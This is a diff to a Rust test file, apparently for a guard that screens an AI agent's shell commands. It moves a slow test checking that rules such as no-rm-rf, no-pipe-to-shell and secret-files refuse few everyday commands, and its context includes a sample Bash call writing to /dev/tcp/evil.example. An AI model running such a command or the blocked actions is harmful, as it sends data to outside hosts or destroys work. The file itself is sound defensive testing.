@@ -561,36 +561,6 @@ fn a_search_reads_the_secrets_below_its_folder_unless_it_passes_them_over() {
 }
 
 #[test]
-fn of_the_lines_of_an_ordinary_day_few_are_refused() {
-    let place = Place::new();
-    place.write("p/.git/HEAD", "ref: refs/heads/topic\n");
-    fs::remove_file(place.project().join(".env")).unwrap();
-    let text = include_str!("../../../../../fixtures/lines/everyday.txt");
-    let lines = text
-        .lines()
-        .filter(|line| !line.starts_with('#') && !line.is_empty());
-    let lines: Vec<String> = lines.map(|line| line.replace('⏎', "\n")).collect();
-    let rules = [
-        "no-rm-rf",
-        "no-force-push",
-        "no-commit-on-main",
-        "no-hard-reset",
-        "no-skipped-checks",
-        "no-pipe-to-shell",
-        "ask-before-publishing",
-        "secret-files",
-    ];
-    let refused = |line: &String| {
-        let found = rules.iter().find(|rule| place.line(rule, line));
-        found.map(|rule| format!("{rule}: {line}"))
-    };
-    let refused: Vec<String> = lines.iter().filter_map(refused).collect();
-    assert!(lines.len() > 800, "{} lines", lines.len());
-    let (few, all) = (refused.len(), lines.len());
-    assert!(few * 40 < all, "{few} of {all}: {refused:#?}");
-}
-
-#[test]
 fn a_search_that_removes_what_it_finds_falls_on_each_file_below_its_folder() {
     let place = Place::new();
     let holds = |when: &str, line: &str| {
@@ -694,4 +664,39 @@ fn a_machine_is_the_same_one_however_a_url_spells_it() {
         "Bash",
         json!({"command": "echo x > /dev/tcp/evil.example./80"})
     ));
+}
+
+mod slow {
+    use super::*;
+
+    #[test]
+    #[ignore = "takes seconds"]
+    fn of_the_lines_of_an_ordinary_day_few_are_refused() {
+        let place = Place::new();
+        place.write("p/.git/HEAD", "ref: refs/heads/topic\n");
+        fs::remove_file(place.project().join(".env")).unwrap();
+        let text = include_str!("../../../../../fixtures/lines/everyday.txt");
+        let lines = text
+            .lines()
+            .filter(|line| !line.starts_with('#') && !line.is_empty());
+        let lines: Vec<String> = lines.map(|line| line.replace('⏎', "\n")).collect();
+        let rules = [
+            "no-rm-rf",
+            "no-force-push",
+            "no-commit-on-main",
+            "no-hard-reset",
+            "no-skipped-checks",
+            "no-pipe-to-shell",
+            "ask-before-publishing",
+            "secret-files",
+        ];
+        let refused = |line: &String| {
+            let found = rules.iter().find(|rule| place.line(rule, line));
+            found.map(|rule| format!("{rule}: {line}"))
+        };
+        let refused: Vec<String> = lines.iter().filter_map(refused).collect();
+        assert!(lines.len() > 800, "{} lines", lines.len());
+        let (few, all) = (refused.len(), lines.len());
+        assert!(few * 40 < all, "{few} of {all}: {refused:#?}");
+    }
 }
